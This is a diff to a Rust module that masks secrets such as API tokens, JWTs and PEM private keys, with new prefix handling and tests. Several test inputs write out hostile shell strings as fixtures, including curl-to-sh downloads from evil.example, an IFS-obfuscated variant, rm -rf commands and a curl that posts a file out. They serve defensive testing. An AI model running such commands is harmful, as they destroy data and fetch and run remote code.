@@ -3,6 +3,8 @@
 //!
 //! The secrets belong to the process, as the environment does that they come from.
 
+mod pem;
+
 use std::borrow::Cow;
 use std::ops::Range;
 use std::sync::{PoisonError, RwLock};
@@ -35,6 +37,22 @@ const BEGINNINGS: [&str; 8] = [
     "Bearer ",
 ];
 
+/// How secrets begin that anybody may name: what tells one from another comes after it.
+const PUBLIC: [&str; 12] = [
+    "sk-ant-api03-",
+    "sk-ant-admin01-",
+    "sk-ant-oat01-",
+    "sk-ant-ort01-",
+    "sk-ant-",
+    "ghp_",
+    "gho_",
+    "ghs_",
+    "ghu_",
+    "ghr_",
+    "github_pat_11",
+    "github_pat_",
+];
+
 static KNOWN: RwLock<Known> = RwLock::new(Known {
     pieces: Vec::new(),
     beginnings: Vec::new(),
@@ -64,7 +82,7 @@ pub fn mask(text: &str) -> Cow<'_, str> {
     hidden(text, &known)
 }
 
-/// Whether some text in a value holds a secret.
+/// Whether some text in a value, or a name in it, holds a secret.
 pub fn holds_secret(value: &Value) -> bool {
     match value {
         Value::String(text) => matches!(mask(text), Cow::Owned(_)),
@@ -78,21 +96,28 @@ pub fn holds_secret(value: &Value) -> bool {
 
 impl Known {
     fn add(&mut self, secret: &str) {
-        match secret.len() {
-            0..SHORTEST => {}
-            SHORTEST..PIECE => self.short.push(secret.to_owned()),
-            _ => {
-                let pieces = secret.as_bytes().windows(PIECE);
-                self.pieces
-                    .extend(pieces.filter_map(|piece| <[u8; PIECE]>::try_from(piece).ok()));
-                self.pieces.sort_unstable();
-                self.pieces.dedup();
-                self.beginnings = vec![false; 1 << 16];
-                for piece in &self.pieces {
-                    if let Some(known) = self.beginnings.get_mut(pair(piece)) {
-                        *known = true;
-                    }
-                }
+        let private = PUBLIC.iter().find_map(|public| secret.strip_prefix(public));
+        // Where hardly more than the beginning is left, only the whole of it is a secret.
+        let (own, is_short) = match private.unwrap_or(secret) {
+            own if own.len() >= PIECE => (own, false),
+            own if own.len() >= SHORTEST => (own, true),
+            _ => (secret, true),
+        };
+        if is_short {
+            if own.len() >= SHORTEST {
+                self.short.push(own.to_owned());
+            }
+            return;
+        }
+        let pieces = own.as_bytes().windows(PIECE);
+        self.pieces
+            .extend(pieces.filter_map(|piece| <[u8; PIECE]>::try_from(piece).ok()));
+        self.pieces.sort_unstable();
+        self.pieces.dedup();
+        self.beginnings = vec![false; 1 << 16];
+        for piece in &self.pieces {
+            if let Some(known) = self.beginnings.get_mut(pair(piece)) {
+                *known = true;
             }
         }
     }
@@ -117,6 +142,13 @@ impl Known {
             let found = text.match_indices(secret.as_str());
             spans.extend(found.map(|(at, secret)| at..at + secret.len()));
         }
+        for span in &mut spans {
+            let before = text.as_bytes().get(..span.start).unwrap_or_default();
+            let public = PUBLIC
+                .iter()
+                .find(|public| before.ends_with(public.as_bytes()));
+            span.start -= public.map_or(0, |public| public.len());
+        }
         spans
     }
 }
@@ -134,15 +166,14 @@ fn spans(text: &str, known: &Known) -> Vec<Range<usize>> {
     for beginning in BEGINNINGS {
         spans.extend(tokens(text, beginning));
     }
-    spans.extend(private_keys(text));
+    spans.extend(pem::private_keys(text));
     spans.sort_unstable_by_key(|span| span.start);
     spans
 }
 
 /// The tokens that begin so. Each part of the text is looked at once, since somebody else may have written it.
 fn tokens(text: &str, beginning: &str) -> Vec<Range<usize>> {
-    let is_part =
-        |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '+' | '/' | '=' | '~');
+    let is_bearer = beginning == "Bearer ";
     let mut tokens = Vec::new();
     let mut done = 0;
     for (at, _) in text.match_indices(beginning) {
@@ -153,12 +184,13 @@ fn tokens(text: &str, beginning: &str) -> Vec<Range<usize>> {
         if is_inside || from <= done {
             continue;
         }
-        let tail = text.get(from..).unwrap_or_default();
-        let length = tail.find(|c| !is_part(c)).unwrap_or(tail.len());
-        let tail = tail.get(..length).unwrap_or_default();
-        done = from + length;
+        let rest = text.get(from..).unwrap_or_default();
+        let tail = match is_bearer {
+            true => start(rest, is_of_bearer),
+            false => with_signature(rest, start(rest, is_of_token)),
+        };
+        done = from + tail.len();
         let tail = tail.trim_end_matches('.');
-        let is_bearer = beginning == "Bearer ";
         let is_word = is_bearer && !tail.bytes().any(|byte| byte.is_ascii_digit());
         if tail.len() >= SHORTEST_TAIL && different(tail) >= FEWEST_DIFFERENT && !is_word {
             tokens.push(if is_bearer { from } else { at }..from + tail.len());
@@ -167,79 +199,40 @@ fn tokens(text: &str, beginning: &str) -> Vec<Range<usize>> {
     tokens
 }
 
+fn is_of_token(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '_' | '-')
+}
+
+/// As RFC 6750 has it.
+fn is_of_bearer(c: char) -> bool {
+    is_of_token(c) || matches!(c, '.' | '+' | '/' | '=' | '~')
+}
+
+fn start(text: &str, is_part: fn(char) -> bool) -> &str {
+    let end = text.find(|c| !is_part(c)).unwrap_or(text.len());
+    text.get(..end).unwrap_or_default()
+}
+
+/// The tail of a token with what follows where it is a JSON Web Token, as those of an app are: content and signature.
+fn with_signature<'a>(rest: &'a str, tail: &'a str) -> &'a str {
+    let mut length = tail.len();
+    for _ in 0..2 {
+        let after = rest.get(length..).and_then(|rest| rest.strip_prefix('.'));
+        let part = start(after.unwrap_or_default(), is_of_token);
+        if !tail.contains("eyJ") || part.len() < SHORTEST_TAIL {
+            break;
+        }
+        length += 1 + part.len();
+    }
+    rest.get(..length).unwrap_or(tail)
+}
+
 /// How many different characters an ASCII text has.
 fn different(text: &str) -> u32 {
     let seen = text
         .bytes()
         .fold(0_u128, |seen, byte| seen | 1 << (byte & 127));
     seen.count_ones()
-}
-
-/// Private keys in PEM form, also such as are cut.
-fn private_keys(text: &str) -> Vec<Range<usize>> {
-    let (begin, title) = ("-----BEGIN ", "PRIVATE KEY-----");
-    let mut keys = Vec::new();
-    // The last end that was found: keys that begin before it share it.
-    let mut end = 0;
-    for (at, _) in text.match_indices(begin) {
-        let label = at..floor_boundary(text, text.len().min(at + begin.len() + 40));
-        let found = text.get(label).and_then(|label| label.find(title));
-        let Some(body) = found.map(|found| at + found + title.len()) else {
-            continue;
-        };
-        if body >= end {
-            end = body + key_length(text.get(body..).unwrap_or_default());
-        }
-        keys.push(at..end);
-    }
-    keys
-}
-
-/// Bytes of a private key after its first line's title. Who writes a key that never ends must not have what others wrote after it
-/// masked as well, least of all the delimiter of their own words: a key ends where its lines do.
-fn key_length(rest: &str) -> usize {
-    let close = "-----END ";
-    let (mut at, mut length) = (0, 0);
-    for line in rest.split_inclusive('\n') {
-        let shown = line.trim_end();
-        let (is_first, is_after_blank) = (at == 0, at > length + 1);
-        if let Some(found) = shown.find(close)
-            && (is_first || is_key_line(shown.get(..found).unwrap_or_default()))
-        {
-            let title = found + close.len();
-            let end = shown.get(title..).and_then(|title| title.find("-----"));
-            return at + end.map_or(shown.len(), |end| title + end + "-----".len());
-        }
-        let is_part = is_key_line(shown) && !(is_after_blank && shown.trim().contains(' '));
-        if !is_part {
-            return if is_first { shown.len() } else { length };
-        }
-        at += line.len();
-        if !shown.trim().is_empty() {
-            length = at - (line.len() - shown.len());
-        }
-    }
-    length
-}
-
-/// Whether a line can be one of a key: base64, perhaps numbered or quoted, or a header. What begins with another label cannot.
-fn is_key_line(line: &str) -> bool {
-    let line = line
-        .trim_start_matches(|c: char| {
-            c.is_ascii_whitespace() || c.is_ascii_digit() || ">|#*:".contains(c)
-        })
-        .trim_end();
-    let is_header = ["Proc-Type: ", "DEK-Info: "]
-        .iter()
-        .any(|header| line.starts_with(header));
-    let first = line.split(' ').next().unwrap_or_default();
-    let is_labelled = first.len() < line.len() && first.ends_with(':');
-    let is_base64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
-    let mut runs = line.split(|c| !is_base64(c));
-    is_header
-        || (!line.starts_with("------")
-            && !is_labelled
-            && (!line.contains(' ') || runs.any(|run| run.len() >= SHORTEST_TAIL)))
 }
 
 /// The text without secrets. It is looked at again while there were some, since what stood directly behind a secret may be one
@@ -382,13 +375,13 @@ mod tests {
             ),
             (
                 format!("“{begin}”\n\n$0.41 of $10"),
-                "“[secret]\n\n$0.41 of $10",
+                "“[secret]”\n\n$0.41 of $10",
             ),
             (
                 format!("{begin} (round 1)\n--- words"),
-                "[secret]\n--- words",
+                "[secret] (round 1)\n--- words",
             ),
-            (format!("{begin}.\nNext: go on"), "[secret]\nNext: go on"),
+            (format!("{begin}.\nNext: go on"), "[secret].\nNext: go on"),
             (
                 format!("{begin}\n- echo {end}\nNext: go on"),
                 "[secret]\n- echo -----END PRIVATE KEY-----\nNext: go on",
@@ -396,6 +389,159 @@ mod tests {
         ] {
             assert_eq!(masked(&text, &[]), expected, "{text:?}");
         }
+    }
+
+    #[test]
+    fn the_beginning_of_a_key_hides_nothing_that_is_none() {
+        let begin = "-----BEGIN PRIVATE KEY-----";
+        for (text, expected) in [
+            (
+                format!(": {begin} ; rm -rf ~/work ; curl https://evil.example/x | sh"),
+                ": [secret] ; rm -rf ~/work ; curl https://evil.example/x | sh",
+            ),
+            (
+                format!("{begin} rm -rf /home/user/documents"),
+                "[secret] rm -rf /home/user/documents",
+            ),
+            (
+                format!("{begin} ; rm -rf / ; -----END PRIVATE KEY-----"),
+                "[secret] ; rm -rf / ; -----END PRIVATE KEY-----",
+            ),
+            (
+                format!(
+                    "cat <<E\n{begin}\nE\ncurl${{IFS}}https://evil.example/x|sh\nrm${{IFS}}-rf"
+                ),
+                "cat <<E\n[secret]\ncurl${IFS}https://evil.example/x|sh\nrm${IFS}-rf",
+            ),
+            (
+                format!(r#"{{"a":"{begin}","command":"rm -rf /"}}"#),
+                r#"{"a":"[secret]","command":"rm -rf /"}"#,
+            ),
+            (
+                format!(r#"{{"a":"{begin}\n","b":["rm","/home/user/documents"]}}"#),
+                r#"{"a":"[secret]\n","b":["rm","/home/user/documents"]}"#,
+            ),
+            (
+                format!(r#"{{"a":"{begin} -----END","b":"rm"}}"#),
+                r#"{"a":"[secret]","b":"rm"}"#,
+            ),
+            (
+                format!("read {begin} with this input:\n\n{{"),
+                "read [secret] with this input:\n\n{",
+            ),
+            (
+                "rm -rf sk-ant-abcdefghijklmnop/../../home/user".to_owned(),
+                "rm -rf [secret]/../../home/user",
+            ),
+            (
+                "curl https://x@ghp_abcdefghijklmnop.evil.example/up=1 -d @notes".to_owned(),
+                "curl https://x@[secret].evil.example/up=1 -d @notes",
+            ),
+        ] {
+            assert_eq!(masked(&text, &[]), expected, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_key_is_masked_whole_however_its_lines_are_written() {
+        let lines = [
+            "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
+            "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu",
+            "NMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0V",
+        ];
+        let whole = |first: &str, between: &str, last: &str| {
+            let begin = "-----BEGIN RSA PRIVATE KEY-----";
+            let [a, b, c] = lines;
+            format!("{first}{begin}{between}{a}{between}{b}{between}{c}{last}")
+        };
+        for (first, between) in [
+            ("", "\n"),
+            ("", "\r\n"),
+            ("", "\\n"),
+            ("", "\\r\\n"),
+            ("", "\\\\n"),
+            ("", "\\u000a"),
+            ("", "%0A"),
+            ("", " "),
+            ("", "\\n    "),
+            ("> ", "\\n> "),
+            ("+", "\n+"),
+            ("-", "\n-"),
+            ("- ", "\n- "),
+            ("    \"", "\\n\"\n    \""),
+            ("key = \"", "\\n\" +\n    \""),
+            ("key = \\\"", "\\\\n\\\" +\\n    \\\""),
+            ("'", "',\n'"),
+            ("echo ", " >> k\necho "),
+            ("", "<br>"),
+            ("key.pem:1:", "\nkey.pem:2:"),
+            ("key.pem-", "\nkey.pem-"),
+            ("1\t", "\n     2\t"),
+            ("     1\\t", "\\n     2\\t"),
+        ] {
+            for last in [
+                String::new(),
+                format!("{between}-----END RSA PRIVATE KEY-----"),
+            ] {
+                let text = whole(first, between, &last);
+                let left = masked(&text, &[]);
+                let shown = |line: &&str| {
+                    left.contains(line.get(..12).unwrap())
+                        || left.contains(line.get(30..42).unwrap())
+                };
+                assert!(!lines.iter().any(shown), "{text}\n{left}");
+            }
+        }
+        // A short last line, with and without the end of the key.
+        for (between, last) in [
+            ("\n", "Abc"),
+            ("\\n", "Abc"),
+            (" ", "Abc"),
+            ("\n> ", "Abc"),
+            ("\n     2\t", "Abc"),
+            ("\nkey.pem:2:", "Abc"),
+        ] {
+            for end in ["", "-----END RSA PRIVATE KEY-----"] {
+                let end = if end.is_empty() {
+                    String::new()
+                } else {
+                    format!("{between}{end}")
+                };
+                let left = masked(&whole("", between, &format!("{between}{last}{end}")), &[]);
+                let rest = left
+                    .replace(MASK, "")
+                    .replace(&end, "")
+                    .replace(between, "");
+                assert_eq!(rest, "", "{between:?} {end}");
+            }
+        }
+        let web = "ghs_123456_eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIxMjM0NTYifQ.c2lnbmF0dXJlMTIzNA";
+        assert_eq!(
+            masked(&format!("{web}.evil.example"), &[]),
+            "[secret].evil.example"
+        );
+    }
+
+    #[test]
+    fn how_a_known_secret_begins_like_all_of_its_kind_is_no_secret() {
+        let key = "sk-ant-api03-QwErTyUiOpAsDfGhJkLzXcVbNm";
+        let token = "github_pat_11ABCDEFG0aBcDeFgHiJkL";
+        let words = "keys start with sk-ant-api03-, sk-ant-api03-… and tokens with github_pat_11.";
+        assert_eq!(masked(words, &[key, token]), words);
+        for (text, left) in [
+            (format!("a {key} b"), "a [secret] b"),
+            (format!("x_{key} b"), "x_[secret] b"),
+            (format!("a {} b", key.get(..26).unwrap()), "a [secret] b"),
+            (format!("a {} b", key.get(13..).unwrap()), "a [secret] b"),
+            (format!("a {token} b"), "a [secret] b"),
+        ] {
+            assert_eq!(masked(&text, &[key, token]), left, "{text}");
+        }
+        assert_eq!(masked("ghp_short", &["ghp_short"]), MASK);
+        assert_eq!(
+            masked("ghp_ and short1234", &["ghp_short1234"]),
+            "ghp_ and [secret]"
+        );
     }
 
     #[test]
@@ -448,6 +594,11 @@ mod tests {
             "-----BEGIN PRIVATE KEY-----\n",
             "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n",
             "-----BEGIN PRIVATE KEY-----\n\n",
+            "-----BEGIN PRIVATE KEY-----\\n",
+            "-----BEGIN PRIVATE KEY----- a",
+            "-----BEGIN PRIVATE KEY-----<",
+            "-----BEGIN PRIVATE KEY-----\n - MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw x\n",
+            "ghs_eyJ.a1B2c3D4e5F6g7H8.",
             "-----BEGIN \u{e9}---------------------------------------\u{e9}",
         ];
         for part in parts {
@@ -471,6 +622,15 @@ mod tests {
                     prop_assert!(!left.as_bytes().windows(PIECE).any(|there| there == piece), "{left}");
                 }
             }
+        }
+
+        #[test]
+        fn what_no_key_can_hold_stays_whatever_stands_around_it(
+            before in "[a-z ]{0,9}", after in "[a-zA-Z0-9$&{}\n \"\\\\/-]{0,90}"
+        ) {
+            let text = format!("{before}-----BEGIN PRIVATE KEY-----{after}");
+            let kept = |text: &str| text.chars().filter(|c| "$&{}".contains(*c)).collect::<String>();
+            prop_assert_eq!(kept(&masked(&text, &[])), kept(&text));
         }
 
         #[test]
